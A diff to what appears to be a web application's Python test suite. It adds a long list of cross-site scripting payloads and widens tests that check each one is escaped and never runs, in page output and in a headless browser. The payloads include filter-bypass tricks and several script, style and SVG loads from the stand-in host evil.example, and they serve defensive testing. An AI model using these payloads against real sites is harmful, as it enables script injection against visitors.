@@ -65,6 +65,48 @@ XSS = [
     "＜script＞document.title='hacked'＜/script＞",
     "%3Cscript%3Edocument.title='hacked'%3C/script%3E",
     "&lt;script&gt;document.title='hacked'&lt;/script&gt;",
+    "<ScRiPt>document.title='hacked'</sCrIpT>",
+    "<script\n>document.title='hacked'</script\n>",
+    "<script/x>document.title='hacked'</script>",
+    "<scr<script>ipt>document.title='hacked'</scr</script>ipt>",
+    "<script src=//evil.example/x.js></script>",
+    "<script src=data:,document.title='hacked'></script>",
+    "<script type=module>document.title='hacked'</script>",
+    "<noscript><p title='</noscript><img src=x onerror=1>'>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<style><img src='</style><img src=x onerror=1>'>",
+    "<img src=//evil.example/x.png>",
+    "<img srcset='//evil.example/x 1x'>",
+    "<img src='x'onerror='document.title=1'>",
+    "<img/src/onerror=document.title='hacked'>",
+    "<video><source onerror=document.title='hacked'></video>",
+    "<audio src=x onerror=document.title='hacked'>",
+    "<body onload=document.title='hacked'>",
+    "<input autofocus onfocus=document.title='hacked'>",
+    "<select autofocus onfocus=document.title='hacked'>",
+    "<button formaction=javascript:document.title='hacked'>x</button>",
+    "<form action=//evil.example><button>x</button></form>",
+    "<object data=javascript:document.title='hacked'></object>",
+    "<embed src=//evil.example/x>",
+    "<iframe src=javascript:document.title='hacked'></iframe>",
+    "<svg><script>document.title='hacked'</script></svg>",
+    "<svg><a xlink:href=javascript:document.title='hacked'><text>x</text></a></svg>",
+    "<svg><animate onbegin=document.title='hacked' attributeName=x></svg>",
+    "<svg><use href=//evil.example/x.svg#x></svg>",
+    "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=1>",
+    "<template><script>document.title='hacked'</script></template>",
+    "<marquee onstart=document.title='hacked'>",
+    "<isindex type=image src=x onerror=document.title='hacked'>",
+    "--><script>document.title='hacked'</script>",
+    "]]><script>document.title='hacked'</script>",
+    "*/</style><script>document.title='hacked'</script>",
+    "' autofocus onfocus='document.title=1",
+    '" onmouseover="document.title=1',
+    "\u2028document.title='hacked'\u2029",
+    "\x00<script>document.title='hacked'</script>",
+    "vbscript:document.title='hacked'",
+    "data:text/html,<script>document.title='hacked'</script>",
 ]
 # Where a visitor's words stand on a page again.
 FIELDS = [
@@ -245,7 +287,8 @@ def test_our_own_names_are_answered(desk: Any) -> None:
 
 @pytest.mark.parametrize("path", FIELDS)
 def test_words_of_a_visitor_are_text(client: httpx.Client, path: str) -> None:
-    for words in XSS:
+    assert len(XSS) >= 60
+    for words in [*XSS[:20], *XSS[20 + FIELDS.index(path) :: 5]]:  # the later ones in two fields each
         page = client.get(path.format(quote(words, safe=""))).text
         assert Foreign(page).found == [], (words, path)
         assert "49" not in re.findall(r"<title>[^<]*", page)[0]
@@ -272,7 +315,12 @@ class Foreign(HTMLParser):
 OURS = re.compile(r"$|[#?]|/(?![/\\])|data:image/")
 
 
-def test_a_browser_runs_none_of_the_words(browser: Browser, desk: Any) -> None:
+@pytest.mark.parametrize(
+    ("fields", "strings"),
+    [(FIELDS[:6:2], XSS[:6]), pytest.param(FIELDS, XSS, marks=pytest.mark.soak)],
+    ids=["some", "all"],
+)
+def test_a_browser_runs_none_of_the_words(browser: Browser, desk: Any, fields: list[str], strings: list[str]) -> None:
     context = browser.new_context(base_url=desk.url)
     page = context.new_page()
     complaints: list[str] = []
@@ -288,8 +336,8 @@ def test_a_browser_runs_none_of_the_words(browser: Browser, desk: Any) -> None:
 
     page.on("dialog", spoke)
     page.on("request", asked)
-    for path in FIELDS[:6:2]:
-        for words in XSS[:6]:
+    for path in fields:
+        for words in strings:
             page.goto(path.format(quote(words, safe="")) + "#" + quote(words), wait_until="domcontentloaded")
             assert page.title() != "hacked", (path, words)
     assert (complaints, foreign) == ([], [])
